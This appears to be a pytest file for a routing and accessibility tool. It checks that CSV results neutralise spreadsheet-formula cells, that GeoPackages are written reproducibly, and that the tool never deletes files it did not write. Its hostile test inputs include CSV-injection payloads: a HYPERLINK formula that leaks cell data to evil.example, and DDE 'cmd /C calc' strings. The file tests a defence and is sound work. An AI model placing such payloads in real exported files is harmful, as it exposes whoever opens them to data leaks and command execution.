"""Result files: no CSV cell opens as a spreadsheet formula; identical runs give identical GeoPackages.

Names and regions come from user tables, study files and OSM; a cell starting with
``=``, ``+``, ``-`` or ``@`` runs as a formula in a spreadsheet. The tables must
neutralise such cells and still read back as written through the project's reader.
"""

from __future__ import annotations

import csv
import io
import shutil
import warnings
from dataclasses import replace
from pathlib import Path

import pytest
from ural_access.geo.pipeline.compute import compute_access
from ural_access.geo.results.access_results import read_results, write_results
from ural_access.geo.results.files import neutral_cell, read_header, read_table, restored_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "'=already quoted",
    "''+twice",
]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _formula_cells(text: str) -> list[str]:
    """Cells of ``text`` (every line, header lines too) a spreadsheet would run."""
    bad = []
    for delimiter in (",", ";"):
        for row in csv.reader(io.StringIO(text), delimiter=delimiter):
            for cell in row:
                start = cell.lstrip(" \"'") if cell[:1] in ' "' else cell
                if start[:1] and start[0] in "=+-@\t\r" and not _is_number(cell):
                    bad.append(cell)
    return bad


@pytest.fixture(scope="module")
def hostile(built: dict):  # type: ignore[no-untyped-def]
    study, net, _ = built["andorra"]
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        results = compute_access(study, net, with_isochrones=False)
    places = results.places.copy()
    rows = places.index[places["role"] == "settlement"][: len(HOSTILE)]
    places.loc[rows, "name"] = HOSTILE
    towns = results.towns.copy()
    towns.loc[towns.index[: len(HOSTILE)], "name"] = HOSTILE[: len(towns)]
    od = results.od.copy()
    od.loc[od.index[:1], "origin"] = HOSTILE[0]
    title = 'Study, =HYPERLINK("http://evil.example","x"); @SUM(1)'
    prov = dict(results.provenance, title=title, regions=["=cmd|' /C calc'!A0", "ok, -x"])
    return replace(results, places=places, towns=towns, od=od, provenance=prov), title


def test_no_csv_cell_opens_as_a_formula(hostile, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    results, _ = hostile
    folder = write_results(results, tmp_path / "r")
    for name in ("places", "od_matrix", "agglomerations", "zone_towns"):
        text = (folder / f"{name}.csv").read_text(encoding="utf-8")
        assert _formula_cells(text) == [], name


def test_neutralised_tables_read_back_as_written(hostile, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    results, title = hostile
    folder = write_results(results, tmp_path / "r")
    table = read_table(folder / "places.csv")
    assert set(HOSTILE) <= set(table["name"])
    header = read_header(folder / "places.csv")
    assert header["title"] == title
    assert header["regions"] == ["=cmd|' /C calc'!A0", "ok, -x"]
    assert HOSTILE[0] in set(read_table(folder / "od_matrix.csv")["origin"])
    back = read_results(folder, results.study)
    assert set(HOSTILE) <= set(back.places["name"])
    assert set(back.places["population"].dropna()) == set(results.places["population"].dropna())


@pytest.mark.parametrize("text", [*HOSTILE, "plain", "'plain", "", "-", "'"])
def test_a_neutralised_cell_round_trips(text: str) -> None:
    cell = neutral_cell(text)
    assert restored_cell(cell) == text
    assert cell == text or cell == "'" + text
    assert not (str(cell)[:1] and str(cell)[0] in "=+-@\t\r")


def test_identical_runs_give_byte_identical_geopackages(hostile, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """GDAL records the time of writing in a GeoPackage unless told a fixed one."""
    import time

    results, _ = hostile
    first = write_results(results, tmp_path / "a") / "access.gpkg"
    time.sleep(1.1)  # the recorded time has a resolution of a second... or less
    second = write_results(results, tmp_path / "b") / "access.gpkg"
    assert first.read_bytes() == second.read_bytes()


def test_files_the_tool_did_not_write_are_never_deleted(
    hostile, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:  # type: ignore[no-untyped-def]
    """Replacing a results folder deleted a user's report kept in it, without a word."""
    from ural_access.geo.errors import WriteError

    results, _ = hostile
    folder = write_results(results, tmp_path / "out" / "results")
    write_results(results, folder)  # its own files are replaced as before
    notes = folder / "notes.txt"
    notes.write_text("my notes", encoding="utf-8")
    (folder / "mine").mkdir()
    (folder / "mine" / "report.html").write_text("<p>mine</p>", encoding="utf-8")
    before = sorted(p.name for p in folder.iterdir())
    with pytest.raises(WriteError, match=r"mine/report\.html. and 1 more.*did not write"):
        write_results(results, folder)
    assert notes.read_text(encoding="utf-8") == "my notes"
    assert sorted(p.name for p in folder.iterdir()) == before
    assert [p.name for p in folder.parent.iterdir()] == ["results"]  # no temporary left
    # A folder written before the tool listed its files: its kinds of file are its own.
    notes.unlink()
    shutil.rmtree(folder / "mine")
    (folder / ".ural-access-files.json").unlink()
    write_results(results, folder)
    (folder / "draft.docx").write_bytes(b"PK")
    (folder / ".ural-access-files.json").unlink()
    with pytest.raises(WriteError, match=r"draft\.docx"):
        write_results(results, folder)


def test_the_command_refuses_with_the_path_and_exit_9(
    built: dict, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:  # type: ignore[no-untyped-def]
    from ural_access.cli.commands import main

    _, _, network = built["andorra"]
    out = tmp_path / "o"
    args = ["route", "--study", "andorra", "--network", str(network), "--output", str(out)]
    args += ["--no-isochrones", "-q"]
    assert main(args) == 0
    report = out / "results" / "report.txt"
    report.write_text("keep me", encoding="utf-8")
    assert main(args) == 9
    err = capsys.readouterr().err
    assert str(report) in err and "did not write" in err
    assert report.read_text(encoding="utf-8") == "keep me"
